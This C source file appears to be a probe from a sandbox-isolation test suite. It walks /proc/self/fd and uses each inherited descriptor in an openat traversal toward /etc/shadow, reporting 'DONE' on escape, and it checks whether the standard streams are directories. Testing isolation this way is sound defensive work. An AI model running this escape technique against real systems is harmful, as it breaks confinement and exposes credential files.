// Every descriptor that this process was given, and where each leads; a directory one is tried as a way out.
#include "attack.h"
#include <dirent.h>

int main(int argc, char **argv) {
  DIR *list = opendir("/proc/self/fd");
  for (struct dirent *entry; (entry = readdir(list));) {
    int fd = atoi(entry->d_name);
    if (entry->d_name[0] == '.' || fd == dirfd(list) || fd <= 2) continue;
    char path[64], target[4096] = "";
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    if (readlink(path, target, sizeof target - 1) < 0) continue;
    printf("inherited %d: %s\n", fd, target);
    int up = openat(fd, argc > 1 ? argv[1] : "../../../../../../etc/shadow", O_RDONLY);
    if (up >= 0) printf("escape by %d: DONE\n", fd);
  }
  // The standard three must not be the host's directories either, nor files opened for more than was needed.
  for (int fd = 0; fd < 3; fd++) {
    struct stat status;
    if (fstat(fd, &status) == 0 && S_ISDIR(status.st_mode)) printf("directory as %d: DONE\n", fd);
  }
  char path[4096];
  errno = 0;
  printf("getcwd: %s\n", getcwd(path, sizeof path) ? path : strerrorname_np(errno));
  puts("end");
  return 0;
}
